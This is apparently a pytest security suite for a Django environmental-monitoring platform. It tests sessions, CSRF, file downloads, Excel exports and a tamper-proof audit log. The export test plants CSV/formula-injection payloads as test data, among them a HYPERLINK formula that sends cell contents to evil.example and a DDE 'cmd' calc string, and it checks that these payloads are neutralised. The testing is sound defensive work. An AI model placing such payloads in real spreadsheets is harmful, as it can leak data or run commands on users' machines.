"""Sessions, CSRF on every unsafe URL, file downloads, formula-free exports and the trigger-written audit log.

CSP, nosniff on pages, `check --deploy` and the database-down page are in tests/core/test_security.py.
"""

from __future__ import annotations

import datetime as dt
import io
import json
from decimal import Decimal

import openpyxl
import pytest
from django.conf import settings
from django.contrib.sessions.models import Session
from django.db import IntegrityError, InternalError, ProgrammingError, connection, transaction
from django.test import Client
from django.urls import get_resolver, reverse
from django.utils import timezone

from tests.factories import (
    AirStationFactory,
    MeasureFactory,
    PaymentFactory,
    ProjectFactory,
    RectificationItemFactory,
    SewageOutletFactory,
    WaterSectionFactory,
)

from .test_permission_matrix import POLICY, SKIPPED, url_names

PASSWORD = "Test-pass-123"  # tests/factories.UserFactory


# --- sessions -------------------------------------------------------------------------------------


def _login(client, user) -> None:
    response = client.post(reverse("login"), {"username": user.username, "password": PASSWORD})
    assert response.status_code == 302, response.content[:500]


@pytest.mark.django_db
def test_session_key_rotates_at_login(client, official_a):
    session = client.session
    session["probe"] = 1
    session.save()
    client.cookies[settings.SESSION_COOKIE_NAME] = session.session_key
    before = session.session_key
    _login(client, official_a)
    after = client.cookies[settings.SESSION_COOKIE_NAME].value
    assert after and after != before
    assert not Session.objects.filter(session_key=before).exists(), "the pre-login session must be gone"


@pytest.mark.django_db
def test_logout_invalidates_the_session_server_side(client, official_a):
    _login(client, official_a)
    key = client.cookies[settings.SESSION_COOKIE_NAME].value
    assert client.get(reverse("home")).status_code == 200
    client.post(reverse("logout"))
    assert not Session.objects.filter(session_key=key).exists()
    replay = Client()
    replay.cookies[settings.SESSION_COOKIE_NAME] = key  # a stolen cookie replayed after logout
    response = replay.get(reverse("home"))
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


def test_idle_timeout_settings():
    assert settings.SESSION_SAVE_EVERY_REQUEST is True  # each request pushes the expiry: an *idle* timeout
    assert 0 < settings.SESSION_COOKIE_AGE <= 8 * 3600  # a working day at most
    assert settings.SESSION_COOKIE_HTTPONLY is True


@pytest.mark.django_db
def test_idle_session_expires_and_activity_extends_it(client, official_a):
    _login(client, official_a)
    key = client.cookies[settings.SESSION_COOKIE_NAME].value
    Session.objects.filter(session_key=key).update(expire_date=timezone.now() + dt.timedelta(minutes=1))
    client.get(reverse("home"))
    expiry = Session.objects.get(session_key=key).expire_date
    assert expiry > timezone.now() + dt.timedelta(seconds=settings.SESSION_COOKIE_AGE - 60)
    Session.objects.filter(session_key=key).update(expire_date=timezone.now() - dt.timedelta(seconds=1))
    response = client.get(reverse("home"))
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


# --- CSRF ------------------------------------------------------------------------------------------

TOKEN_APIS = {
    "tracker:api_water_readings",
    "tracker:api_air_readings",
    "tracker:api_drinking_readings",
    "tracker:api_air_forecasts",
}


@pytest.mark.django_db
@pytest.mark.parametrize("who", ["official_a", "admin"])
def test_csrf_enforced_on_every_unsafe_method(actors, world, who):
    """Every URL of the platform refuses POST/PUT/PATCH/DELETE from a logged-in browser without a CSRF token."""
    client = Client(enforce_csrf_checks=True)
    client.raise_request_exception = False
    client.force_login(actors[who])
    names = [n for n in url_names() if n not in SKIPPED]
    bad = []
    for name in names:
        policy = POLICY[name]
        url = reverse(name, kwargs=policy.build(world, "A") if policy.build else None)
        for method in ("post", "put", "patch", "delete"):
            response = getattr(client, method)(url, {} if method == "post" else "")
            # token APIs: a session cookie is not a token (401); their other methods are not allowed (405)
            want = (
                (401 if method == "post" else response.status_code in (401, 405) and response.status_code)
                if name in TOKEN_APIS
                else 403
            )
            if response.status_code != want:
                bad.append(f"{method.upper()} {name}: {response.status_code} (want {want})")
            elif want == 403 and "CSRF" not in response.content.decode() and "csrf" not in response.content.decode():
                bad.append(f"{method.upper()} {name}: 403 but not for CSRF")
    assert not bad, "\n".join(bad)
    assert TOKEN_APIS <= set(names)


@pytest.mark.django_db
def test_login_and_logout_forms_need_csrf(official_a):
    client = Client(enforce_csrf_checks=True)
    assert client.post(reverse("login"), {"username": "official_a", "password": PASSWORD}).status_code == 403
    client.force_login(official_a)
    assert client.post(reverse("logout")).status_code == 403


# --- files -----------------------------------------------------------------------------------------

DOWNLOADS = {
    "tracker:outlet_document": lambda w: {"pk": w["A"]["outlet_change"].pk},
    "projects:photo_download": lambda w: {"pk": w["A"]["project"].pk, "photo_pk": w["A"]["photo"].pk},
    "rectifications:evidence": lambda w: {"pk": w["A"]["evidence"].pk},
    "rectifications:dossier": lambda w: {"pk": w["A"]["closed_item"].pk},
}


@pytest.mark.django_db
@pytest.mark.parametrize("name", sorted(DOWNLOADS))
def test_files_go_out_only_as_attachments_with_nosniff(client, official_a, world, name):
    client.force_login(official_a)
    response = client.get(reverse(name, kwargs=DOWNLOADS[name](world)))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"


@pytest.mark.django_db
def test_media_files_are_not_served_directly(client, admin_user, world):
    client.force_login(admin_user)
    for f in (world["A"]["evidence"].file, world["A"]["photo"].file, world["A"]["outlet_change"].document):
        assert client.get(settings.MEDIA_URL + f.name).status_code == 404
    assert not any(str(p.pattern).startswith("media") for p in get_resolver().url_patterns)


# --- exports ---------------------------------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/"&A1,"点我")'
EXPORTS = [
    ("tracker:water_index", {"export": "xlsx"}),
    ("tracker:outlet_list", {"export": "xlsx"}),
    ("tracker:measure_list", {"export": "xlsx"}),
    ("projects:ranking_export", {}),
    ("projects:project_list", {"export": "xlsx"}),
    ("rectifications:index", {"export": "xlsx"}),
    ("rectifications:bulletin", {"export": "xlsx", "start": "2000-01-01", "end": "2100-12-31"}),
    ("targets:ranking_export", {}),
    ("targets:dashboard_city_export", {}),
    ("targets:dashboard_zones_export", {}),
    ("targets:dashboard_unit_export", {}),
    ("targets:dashboard_inspector_export", {}),
    ("tracker:warning_list", {"export": "xlsx"}),
    ("tracker:enterprise_list", {"export": "xlsx"}),
    ("tracker:enterprise_detail", {"export": "xlsx"}),
    ("tracker:rural_plant_list", {"export": "xlsx"}),
    ("tracker:drinking_quality", {"export": "xlsx"}),
    ("projects:fund_list", {"export": "xlsx"}),
    ("projects:payment_list", {"export": "xlsx"}),
    ("tracker:air_index", {"export": "xlsx"}),
    ("targets:value_list", {"export": "xlsx"}),
    ("targets:target_list", {"export": "xlsx"}),
    ("rectifications:notices", {"export": "xlsx"}),
    ("tracker:weather_warning_list", {"export": "xlsx"}),
    ("tracker:weather_warning_detail", {"export": "xlsx"}),
    ("tracker:emergency_list", {"export": "xlsx"}),
    ("tracker:forecast_compare", {"export": "xlsx"}),
    ("tracker:river_chief_list", {"export": "xlsx"}),
    ("tracker:patrol_frequency", {"export": "xlsx"}),
    ("tracker:patrol_list", {"export": "xlsx"}),
    ("tracker:fishing_cases", {"export": "xlsx"}),
    ("tracker:person_list", {"export": "xlsx"}),
    ("rectifications:accountability_list", {"export": "xlsx"}),
]


def test_every_excel_export_is_listed():
    """A new `xlsx_response(` or ledger `export_response(` call in a view must be added to EXPORTS."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]

    def count(text: str) -> int:
        return text.count("xlsx_response(") + text.count(".export_response(")

    calls = sum(
        count(p.read_text())
        for app in ("tracker", "projects", "rectifications", "targets")
        for p in (root / app).rglob("views*.py")
    ) + sum(
        count(p.read_text())
        for app in ("tracker", "projects", "rectifications", "targets")
        for p in (root / app / "views").rglob("*.py")
        if (root / app / "views").is_dir()
    )
    assert calls <= len(EXPORTS), f"{calls} xlsx_response calls in views, only {len(EXPORTS)} exports checked"


def _scored_run(unit, official, texts):
    """A finished scoring run whose indicator names look like formulas."""
    from targets import services
    from targets.models import DataValue
    from tests.factories import IndicatorFactory, ItemFactory, SchemeFactory, TargetFactory

    year = timezone.localdate().year
    scheme = SchemeFactory(year=year)
    for i, t in enumerate(texts):
        indicator = IndicatorFactory(code=f"evil{i}", name=t[:60])
        ItemFactory(scheme=scheme, indicator=indicator)
        TargetFactory(indicator=indicator, unit=unit, year=year)
        DataValue.objects.create(
            indicator=indicator, unit=unit, year=year, month=0, value=50, status="approved", entered_by=official
        )
    return services.scores_compute(scheme_id=scheme.pk, as_of=timezone.localdate())


@pytest.mark.django_db
def test_exports_never_contain_formula_cells(client, official_a, leader, unit_a):
    """Formula-looking text typed by a user (=, +, -, @) comes out of every export as plain text."""
    texts = [EVIL, "+1+1", "-2+3", "@SUM(A1:A2)", "=cmd|' /C calc'!A0"]
    for i, t in enumerate(texts):
        WaterSectionFactory(unit=unit_a, name=f"{t}{i}"[:40])
        SewageOutletFactory(unit=unit_a, name=f"{t}{i}"[:80])
        MeasureFactory(unit=unit_a, title=t, responsible_person=t[:20])
        RectificationItemFactory(
            unit=unit_a, description=t, responsible_person=t[:20], status="closed", closed_on=timezone.localdate()
        )
        ProjectFactory(unit=unit_a, name=t[:60])
    run = _scored_run(unit_a, official_a, texts)
    from tracker.models import Enterprise, MonitoringWarning, RuralSewagePlant, WarningRule

    firm = Enterprise.objects.create(name=EVIL, credit_code="91350100M000100Y43", industry="other", unit=unit_a)
    MeasureFactory(unit=unit_a, title=f"{EVIL}企业", enterprise=firm)
    RuralSewagePlant.objects.create(name=EVIL, village=EVIL[:40], unit=unit_a, capacity=10, process="ao")
    station = AirStationFactory(unit=unit_a)
    MonitoringWarning.objects.create(
        rule=WarningRule.objects.create(name=EVIL, source="air", parameter="aqi", threshold=200), unit=unit_a,
        station=station, subject_key=f"air:{station.pk}", episode_start=timezone.localdate(),
        fired_on=timezone.localdate(), last_date=timezone.localdate(), periods=1, peak_value=250,
    )  # fmt: skip
    from tracker.models import (
        EmergencyMeasure,
        EmergencyResponse,
        FishingBanCase,
        Person,
        RiverChief,
        RiverPatrol,
        WeatherWarning,
    )
    from tracker.models import River as RiverModel

    warning = WeatherWarning.objects.create(
        title=EVIL, level="orange", starts_on=timezone.localdate(), planned_end=timezone.localdate(),
        issued_by=leader, issued_at=timezone.now(),
    )  # fmt: skip
    measure = EmergencyMeasure.objects.create(unit=unit_a, source=EVIL, measure=EVIL)
    EmergencyResponse.objects.create(warning=warning, unit=unit_a, measure=measure, date=timezone.localdate(),
                                     action=EVIL, reported_by=official_a)  # fmt: skip
    chief = RiverChief.objects.create(
        river=RiverModel.objects.create(name=EVIL[:40]), level="county", stretch=EVIL[:80], unit=unit_a,
        person=Person.objects.create(name=EVIL[:40], post=EVIL[:80], unit=unit_a),
    )  # fmt: skip
    RiverPatrol.objects.create(chief=chief, unit=unit_a, date=timezone.localdate(), stretch=EVIL, problems=EVIL,
                               entered_by=official_a)  # fmt: skip
    FishingBanCase.objects.create(unit=unit_a, case_no=EVIL[:40], date=timezone.localdate(), kind="fishing",
                                  description=EVIL, entered_by=official_a)  # fmt: skip
    from rectifications.models import AccountabilityRecord, RectificationItem

    AccountabilityRecord.objects.create(
        person=chief.person, unit=unit_a, kind="criticism", date=timezone.localdate(), description=EVIL,
        item=RectificationItem.objects.filter(unit=unit_a).first(), recorded_by=leader, recorded_at=timezone.now(),
    )  # fmt: skip
    client.force_login(leader)
    checked, planted = 0, set()
    for name, query in EXPORTS:
        kwargs = {
            "targets:ranking_export": {"run_id": run.pk},
            "targets:dashboard_unit_export": {"unit_id": unit_a.pk},
            "tracker:enterprise_detail": {"pk": firm.pk},
            "tracker:weather_warning_detail": {"pk": warning.pk},
        }.get(name)
        response = client.get(reverse(name, kwargs=kwargs), query)
        assert response.status_code == 200, name
        assert response["Content-Type"].startswith("application/vnd.openxmlformats"), name
        book = openpyxl.load_workbook(io.BytesIO(response.content))
        for ws in book.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    checked += 1
                    if isinstance(cell.value, str) and "HYPERLINK" in cell.value:
                        planted.add(name)
                    assert cell.data_type != "f", f"{name} {ws.title}!{cell.coordinate} is a formula: {cell.value}"
    assert checked > 100
    # the planted text reached these exports (as text): the check above was not vacuous for them
    assert {"tracker:outlet_list", "tracker:measure_list", "rectifications:index", "targets:ranking_export"} <= planted
    assert {"tracker:warning_list", "tracker:enterprise_list", "tracker:enterprise_detail"} <= planted
    assert "tracker:rural_plant_list" in planted
    assert {
        "tracker:weather_warning_list", "tracker:weather_warning_detail", "tracker:emergency_list",
        "tracker:river_chief_list", "tracker:patrol_frequency", "tracker:patrol_list", "tracker:fishing_cases",
        "tracker:person_list", "rectifications:accountability_list",
    } <= planted  # fmt: skip


# --- audit log -------------------------------------------------------------------------------------

pg_only = pytest.mark.skipif("connection.vendor != 'postgresql'", reason="triggers are PostgreSQL-only")


def _audit(table: str, pk) -> list[tuple]:
    with connection.cursor() as cur:
        cur.execute(
            "SELECT action, old, new, db_user, app_user FROM audit_log"
            " WHERE table_name = %s AND row_pk = %s ORDER BY id",
            [table, str(pk)],
        )
        return [
            (a, json.loads(o) if isinstance(o, str) else o, json.loads(n) if isinstance(n, str) else n, d, u)
            for a, o, n, d, u in cur.fetchall()
        ]


@pytest.fixture
def commitments(unit_a, official_a):
    from targets.models import DataValue
    from tests.factories import IndicatorFactory

    project = ProjectFactory(unit=unit_a)
    return {
        "projects_project": project,
        "projects_payment": PaymentFactory(project=project, entered_by=official_a),
        "rectifications_rectificationitem": RectificationItemFactory(unit=unit_a),
        "tracker_sewageoutlet": SewageOutletFactory(unit=unit_a),
        "tracker_measure": MeasureFactory(unit=unit_a),
        "targets_datavalue": DataValue.objects.create(
            indicator=IndicatorFactory(code="audit_ind"),
            unit=unit_a,
            year=2026,
            month=1,
            value=1.0,
            entered_by=official_a,
        ),
    }


def test_audited_tables_cover_every_commitment_model():
    from django.apps import apps

    from tracker.common import audit

    tables = {m._meta.db_table for m in apps.get_models()}
    assert set(audit.AUDITED_TABLES) <= tables
    # when targets lands, its data values must be added here and in a targets migration
    for name in ("datavalue", "target"):
        for table in tables:
            if table.startswith("targets_") and table.endswith(name):
                assert table in audit.AUDITED_TABLES or _has_trigger(table), f"{table} holds commitments: audit it"


def _has_trigger(table: str) -> bool:
    if connection.vendor != "postgresql":
        return True
    with connection.cursor() as cur:
        cur.execute("SELECT 1 FROM pg_trigger WHERE tgname = 'eco_audit' AND tgrelid = %s::regclass", [table])
        return cur.fetchone() is not None


@pg_only
@pytest.mark.django_db
def test_every_audited_table_has_its_trigger():
    from tracker.common import audit

    for table in audit.AUDITED_TABLES:
        assert _has_trigger(table), table


@pg_only
@pytest.mark.django_db
@pytest.mark.parametrize(
    "table,field,value",
    [
        ("projects_project", "allocated_amount", Decimal("1.00")),
        ("projects_payment", "amount", Decimal("999999.00")),
        ("rectifications_rectificationitem", "deadline", dt.date(2030, 1, 1)),
        ("tracker_sewageoutlet", "step", "done"),
        ("tracker_measure", "progress", 100),
        ("targets_datavalue", "value", 99.5),
    ],
)
def test_bulk_update_and_raw_sql_are_both_recorded(commitments, table, field, value):
    obj = commitments[table]
    model = type(obj)
    assert [a for a, *_ in _audit(table, obj.pk)] == ["INSERT"]
    model.objects.filter(pk=obj.pk).update(**{field: value})  # QuerySet.update(): no save(), no signal
    column = model._meta.get_field(field).column
    with connection.cursor() as cur:
        cur.execute(f'UPDATE "{table}" SET id = id WHERE id = %s', [obj.pk])  # changes nothing: not logged
        cur.execute(f'UPDATE "{table}" SET "{column}" = %s WHERE id = %s', [getattr(obj, field), obj.pk])  # raw SQL
    rows = _audit(table, obj.pk)
    assert [a for a, *_ in rows] == ["INSERT", "UPDATE", "UPDATE"]
    old, new = rows[1][1], rows[1][2]
    assert _same(new[column], value) and _same(old[column], getattr(obj, field))
    assert _same(rows[2][1][column], value) and _same(rows[2][2][column], getattr(obj, field))
    assert rows[2][3]  # the database user is recorded


def _same(json_value, python_value) -> bool:
    if isinstance(python_value, Decimal | int | float):
        return Decimal(str(json_value)) == Decimal(python_value)
    return str(json_value) == str(python_value)


@pg_only
@pytest.mark.django_db
def test_deletes_are_recorded_and_the_log_cannot_be_edited(commitments):
    item = commitments["rectifications_rectificationitem"]
    pk = item.pk
    type(item).objects.filter(pk=pk).delete()
    assert [a for a, *_ in _audit("rectifications_rectificationitem", pk)] == ["INSERT", "DELETE"]
    for sql in ("UPDATE audit_log SET action = 'INSERT'", "DELETE FROM audit_log"):
        with pytest.raises((InternalError, IntegrityError, ProgrammingError)), transaction.atomic():
            with connection.cursor() as cur:
                cur.execute(sql)


@pg_only
@pytest.mark.django_db
def test_audit_user_names_the_person(commitments, official_a):
    from tracker.common.audit import audit_user

    project = commitments["projects_project"]
    with transaction.atomic(), audit_user(official_a):
        type(project).objects.filter(pk=project.pk).update(name="改名")
    assert _audit("projects_project", project.pk)[-1][4] == str(official_a.pk)
    type(project).objects.filter(pk=project.pk).update(name="再改")  # outside the block: nobody named
    assert _audit("projects_project", project.pk)[-1][4] is None


def _last_app_user(table: str, pk) -> str | None:
    return _audit(table, pk)[-1][4]


@pg_only
@pytest.mark.django_db
def test_services_name_the_acting_person_in_the_audit_log(
    settings, tmp_path, unit_a, official_a, inspector, admin_user
):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from projects.services import payment_record
    from rectifications.services import rectification_item_close
    from targets.models import DataValue
    from targets.services import data_value_approve
    from tests.factories import IndicatorFactory
    from tracker.services.water import outlet_move

    settings.STORAGES = {
        **settings.STORAGES,
        "default": {"BACKEND": "django.core.files.storage.FileSystemStorage", "OPTIONS": {"location": str(tmp_path)}},
    }
    outlet = SewageOutletFactory(unit=unit_a)
    pdf = SimpleUploadedFile("方案.pdf", b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n")
    outlet_move(
        user=official_a,
        outlet_id=outlet.pk,
        to_step="monitor",
        expected_version=outlet.version,
        work_date=timezone.localdate(),
        note="已完成监测",
        document=pdf,
    )
    payment = payment_record(
        project=ProjectFactory(unit=unit_a),
        amount=Decimal("100.00"),
        paid_on=timezone.localdate(),
        voucher_no="审计-1",
        user=official_a,
    )
    item = RectificationItemFactory(unit=unit_a, status="closing_requested")
    rectification_item_close(item=item, user=inspector, comment="现场核查已整改")
    value = DataValue.objects.create(
        indicator=IndicatorFactory(code="audit_approve"),
        unit=unit_a,
        year=2026,
        month=1,
        value=1.0,
        entered_by=official_a,
        status="submitted",
    )
    data_value_approve(user=admin_user, value_id=value.pk, version=value.version)

    assert _audit("tracker_sewageoutlet", outlet.pk)[-1][0] == "UPDATE"
    assert _last_app_user("tracker_sewageoutlet", outlet.pk) == str(official_a.pk)
    assert _last_app_user("projects_payment", payment.pk) == str(official_a.pk)
    assert _audit("rectifications_rectificationitem", item.pk)[-1][2]["status"] == "closed"
    assert _last_app_user("rectifications_rectificationitem", item.pk) == str(inspector.pk)
    assert _audit("targets_datavalue", value.pk)[-1][2]["status"] == "approved"
    assert _last_app_user("targets_datavalue", value.pk) == str(admin_user.pk)
    # after the service, in the same (test) transaction, a bulk update outside any service names nobody
    type(item).objects.filter(pk=item.pk).update(responsible_person="李四")
    assert _audit("rectifications_rectificationitem", item.pk)[-1][0] == "UPDATE"
    assert _last_app_user("rectifications_rectificationitem", item.pk) is None


@pg_only
@pytest.mark.django_db
def test_audit_user_costs_one_statement_and_none_when_the_same_person_is_already_set(official_a, inspector):
    from django.test.utils import CaptureQueriesContext

    from tracker.common.audit import audit_user

    with CaptureQueriesContext(connection) as outer, transaction.atomic(), audit_user(official_a):
        with CaptureQueriesContext(connection) as same, audit_user(official_a):
            pass
        with CaptureQueriesContext(connection) as other, audit_user(inspector):
            with connection.cursor() as cur:
                cur.execute("SELECT current_setting('eco.user_id', true)")
                assert cur.fetchone()[0] == str(inspector.pk)
        with connection.cursor() as cur:
            cur.execute("SELECT current_setting('eco.user_id', true)")
            assert cur.fetchone()[0] == str(official_a.pk)  # the enclosing person again
    assert len(same) == 0
    assert len(other) == 3  # set, the probe, restore the enclosing person
    # the test's own transaction encloses this block, so leaving it resets the person once
    assert [q["sql"] for q in outer].count("SELECT set_config('eco.user_id', '', true)") == 1


@pg_only
@pytest.mark.django_db
def test_a_failing_audited_service_keeps_its_own_error_and_forgets_the_person(official_a):
    from tracker.common.audit import audited

    @audited
    def failing(*, user):
        with connection.cursor() as cur:
            cur.execute("SELECT 1/0")  # aborts the transaction: a reset statement here would hide this error

    with pytest.raises(Exception, match="division by zero"):
        failing(user=official_a)
    with connection.cursor() as cur:
        cur.execute("SELECT current_setting('eco.user_id', true)")
        assert not cur.fetchone()[0]  # the savepoint rollback undid the setting


@pg_only
@pytest.mark.django_db
def test_audit_log_is_readable_in_admin(client, admin_user, commitments):
    from tracker.models import AuditLog

    assert AuditLog.objects.filter(table_name="projects_payment").count() == 1
    client.force_login(admin_user)
    assert client.get(reverse("admin:tracker_auditlog_changelist")).status_code == 200
    entry = AuditLog.objects.first()
    assert client.get(reverse("admin:tracker_auditlog_change", args=[entry.pk])).status_code == 200
    assert client.post(reverse("admin:tracker_auditlog_delete", args=[entry.pk]), {"post": "yes"}).status_code == 403
